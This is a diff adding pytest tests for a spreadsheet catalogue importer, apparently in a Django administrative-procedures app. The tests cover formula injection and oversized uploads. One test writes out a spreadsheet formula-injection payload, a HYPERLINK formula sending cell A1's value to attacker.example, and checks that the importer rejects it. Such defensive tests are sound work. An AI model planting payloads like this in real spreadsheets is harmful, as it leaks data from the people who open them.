@@ -134,3 +134,33 @@ def test_the_shipped_starter_catalogue_imports_cleanly():
     assert sum("commune" in lv for lv in levels) >= 15
     assert sum("department" in lv for lv in levels) >= 15
     assert ProcedureVersion.objects.filter(procedure__national_code="1.001193", status="published").exists()
+
+
+def _xlsx(rows):
+    wb = Workbook()
+    ws = wb.active
+    ws.append(COLUMNS)
+    for row in rows:
+        ws.append([row[c] for c in COLUMNS])
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def test_a_formula_in_an_uploaded_sheet_is_never_evaluated_or_stored():
+    evil = {**GOOD, "ten_thu_tuc": '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'}
+    with pytest.raises(ImportFailed) as info:
+        catalogue_import(data=_xlsx([evil]), filename="tt.xlsx", acting_user=None)
+    assert [row for row, _message in info.value.errors] == [2]  # read as its (absent) value: a clear row error
+    assert Procedure.objects.count() == 0
+
+
+def test_a_huge_sheet_is_refused_before_it_is_read(monkeypatch):
+    from shared_apps.catalogue import io as catalogue_io
+
+    monkeypatch.setattr(catalogue_io, "MAX_ROWS", 5)
+    rows = [{**GOOD, "ma_thu_tuc": f"1.{900000 + i}"} for i in range(7)]
+    with pytest.raises(ImportFailed) as info:
+        catalogue_import(data=_xlsx(rows), filename="tt.xlsx", acting_user=None)
+    assert "quá nhiều dòng" in info.value.errors[0][1]
+    assert Procedure.objects.count() == 0
